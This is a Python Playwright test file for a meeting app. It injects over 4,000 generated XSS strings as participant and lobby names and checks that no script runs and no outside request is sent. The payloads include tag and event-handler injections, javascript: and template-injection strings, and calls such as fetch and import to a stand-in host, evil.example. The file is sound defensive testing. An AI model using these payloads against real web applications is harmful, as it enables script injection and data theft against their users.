"""Names and titles are text, whatever they say: nothing that people write runs, or makes the page fetch anything."""

from __future__ import annotations

import itertools
from collections.abc import Iterator

from playwright.sync_api import Browser

from tests.support.browsers import Operator, Person
from tests.support.stories import make_meeting, open_room

ACTS = ("window.pwned=1", "alert(1)", "fetch('https://evil.example')", "import('https://evil.example/x.js')")
TAGS = ("img", "svg", "script", "iframe", "video", "audio", "body", "details", "input", "object", "math", "a", "style")
EVENTS = ("onerror", "onload", "ontoggle", "onfocus", "onbegin", "onclick", "onmouseover")
OPENINGS = ("<", "<<", '"><', "'><", "</title><", "</textarea><", "<!--><", "&lt;", "%3C", "\\u003c", "<\t", "]]><")
OTHERS = (
    "javascript:{act}",
    "data:text/html,<script>{act}</script>",
    "${{{act}}}",
    "{{{{constructor.constructor('{act}')()}}}}",
    "<style>@import 'https://evil.example'</style>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content=0;url=javascript:{act}>",
    "<form action=javascript:{act}><button>",
    "<link rel=stylesheet href=https://evil.example>",
    "' onfocus={act} autofocus x='",
    "`-{act}-`",
)


def texts() -> Iterator[str]:
    for opening, tag, event, act in itertools.product(OPENINGS, TAGS, EVENTS, ACTS):
        yield f"{opening}{tag} src=x {event}={act} autofocus>"
    for other, act in itertools.product(OTHERS, ACTS):
        yield other.format(act=act)


SHOW = """(room, names) => {
    const { people, you } = room.meeting.room.state;
    const me = people.get(you);
    for (const name of names) {
        room.meeting.room.take({ type: "person_changed", person: { ...me, name } });
        const one = { id: "w", name, kind: "client", since: 0, second_device: false, shared_link: true };
        room.meeting.room.take({ type: "lobby_changed", waiting: [{ ...one, identified_by: ["link"], missing: [] }] });
    }
    return room.updateComplete.then(() => new Promise((drawn) => setTimeout(drawn, 0)));
}"""


def test_five_thousand_ways_to_write_a_script_run_nothing(operator: Operator, agent: Person, chromium: Browser) -> None:
    asked: list[str] = []
    agent.page.on("request", lambda request: asked.append(request.url))
    make_meeting(agent, operator, "Anna")
    open_room(agent)
    room = agent.page.locator("resfri-room")
    room.wait_for()
    written = list(texts())
    assert len(written) > 4000
    for start in range(0, len(written), 50):
        room.evaluate(SHOW, written[start : start + 50])
    assert agent.page.evaluate("window.pwned") is None
    assert [url for url in asked if not url.startswith((operator.origin, "data:", "blob:"))] == []
    assert agent.errors == []


def test_what_people_type_is_shown_as_they_typed_it(operator: Operator, agent: Person) -> None:
    name = "<img src=x onerror=window.pwned=1>"
    make_meeting(agent, operator, name)
    agent.page.get_by_text(name, exact=True).first.wait_for()
    assert agent.page.evaluate("window.pwned") is None
